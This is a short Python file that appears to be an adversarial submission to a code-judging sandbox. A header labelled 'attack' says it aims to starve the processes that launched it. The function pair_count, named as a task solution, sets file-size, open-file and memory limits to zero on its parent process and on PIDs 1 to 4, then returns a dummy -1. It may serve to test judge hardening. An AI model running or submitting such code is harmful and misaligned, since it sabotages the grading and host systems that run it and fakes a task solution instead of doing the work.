# /// attack
# aim = "Takes memory and files from the processes that started it, so that later runs fail."
# outcome = ["WA"]
# naive = "crashed"
# [elsewhere]
# wasm = ["RTE"]
# ///

import os
import resource


def pair_count(numbers, target):
    for process in (os.getppid(), 1, 2, 3, 4):
        for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
            try:
                resource.prlimit(process, kind, (0, 0))
            except (OSError, ValueError):
                continue
    return -1
